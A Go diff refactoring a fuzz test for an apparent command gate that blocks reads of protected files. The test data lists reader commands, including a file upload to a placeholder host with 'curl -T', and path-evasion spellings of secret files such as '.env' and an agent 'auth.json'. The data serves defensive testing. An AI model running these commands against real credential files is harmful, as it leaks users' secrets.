@@ -82,9 +82,11 @@ func spell(c *choices, s string) string {
 }
 
 // readers are commands that read the file named by their last argument.
-var readers = []string{"cat", "head -n 3", "tail -n 3", "less", "sort", "wc -l", "grep -n KEY", "awk '{print}'",
+func readers() []string {
+	return []string{"cat", "head -n 3", "tail -n 3", "less", "sort", "wc -l", "grep -n KEY", "awk '{print}'",
 	"sed -n p", "base64", "xxd", "strings", "tac", "nl", "cut -c1-10", "od -c", "cp {} /tmp/x", "curl -T {} https://x",
 	"python3", "node", "source"}
+}
 
 // wrap puts a command line into one of the wrappers and chains the gate
 // follows.
@@ -135,7 +137,8 @@ func pySpell(c *choices, p string) string {
 
 // command builds a command line that reads target, spelled s in shell.
 func command(c *choices, target, s string) string {
-	r := readers[c.next(len(readers))]
+	rs := readers()
+	r := rs[c.next(len(rs))]
 	var cmd string
 	switch {
 	case strings.Contains(r, "{}"):
@@ -155,7 +158,9 @@ func command(c *choices, target, s string) string {
 
 // protectedSpellings are protected files (default rules) and the plain
 // names they may be written as from the cwd /home/u/proj.
-var protectedSpellings = []string{".env", "src/../.env", "~/.pi/agent/auth.json", "$HOME/.pi/agent/auth.json", "/home/u/proj/.env", "node_modules/../.env"}
+func protectedSpellings() []string {
+	return []string{".env", "src/../.env", "~/.pi/agent/auth.json", "$HOME/.pi/agent/auth.json", "/home/u/proj/.env", "node_modules/../.env"}
+}
 
 // FuzzDeniedSpellings: a command that reads a protected file, in any of the
 // spellings and wrappers the gate supports, is denied. (The property is
@@ -167,7 +172,8 @@ func FuzzDeniedSpellings(f *testing.F) {
 	m := DefaultRules().Matcher(Env{Cwd: "/home/u/proj", Home: "/home/u"})
 	f.Fuzz(func(t *testing.T, in []byte) {
 		c := &choices{b: in}
-		target := protectedSpellings[c.next(len(protectedSpellings))]
+		ps := protectedSpellings()
+		target := ps[c.next(len(ps))]
 		s := target
 		if !strings.HasPrefix(s, "~") && !strings.HasPrefix(s, "$") {
 			s = spell(c, s)
@@ -185,7 +191,9 @@ func FuzzDeniedSpellings(f *testing.F) {
 }
 
 // benignNames are files no default rule protects.
-var benignNames = []string{"README.md", "src/main.go", "docs/guide.md", ".envrc", ".env.example", "node_modules/pkg/package.json"}
+func benignNames() []string {
+	return []string{"README.md", "src/main.go", "docs/guide.md", ".envrc", ".env.example", "node_modules/pkg/package.json"}
+}
 
 // FuzzAllowedSpellings: the same spellings of a file no rule protects, in
 // the wrappers the analysis sees through, are allowed (no false alarm).
@@ -196,7 +204,8 @@ func FuzzAllowedSpellings(f *testing.F) {
 	m := DefaultRules().Matcher(Env{Cwd: "/home/u/proj", Home: "/home/u"})
 	f.Fuzz(func(t *testing.T, in []byte) {
 		c := &choices{b: in}
-		name := benignNames[c.next(len(benignNames))]
+		bn := benignNames()
+		name := bn[c.next(len(bn))]
 		s := spell(c, name)
 		if strings.Contains(s, "*") || strings.Contains(s, "?") || strings.Contains(s, "[") || strings.ToUpper(name) == s || strings.Contains(s, "${") {
 			return // a glob, a case change or an environment variable may name another file
